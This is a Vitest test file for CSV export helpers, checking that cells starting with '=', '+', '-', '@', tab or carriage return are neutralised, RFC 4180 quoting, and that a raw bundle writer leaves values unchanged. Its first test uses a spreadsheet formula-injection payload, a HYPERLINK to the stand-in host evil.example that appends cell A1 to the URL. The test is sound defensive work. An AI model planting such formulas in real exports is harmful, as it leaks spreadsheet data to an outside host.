import { describe, expect, it } from 'vitest';
import { csvField, csvLine, dataCsvLine } from './csv.ts';

describe('CSV output', () => {
  it('neutralises cells a spreadsheet would run as formulas, and quotes what RFC 4180 asks', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`,
    );
    for (const s of ['+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'])
      expect(csvField(s).replace(/^"/, '')[0]).toBe("'");
    expect(csvField('CN-WEST')).toBe('CN-WEST');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csvLine(['-12.34', '0.00', '1234.50', -5, true])).toBe('-12.34,0.00,1234.50,-5,true\n');
  });

  it('writes bundle tables as they are: a note starting with "-" or a "+86" phone stays unchanged', () => {
    expect(dataCsvLine(['- met the CFO', '+86 28 1234', '=x', 'a,b', null])).toBe(
      '- met the CFO,+86 28 1234,=x,"a,b",\n',
    );
  });
});
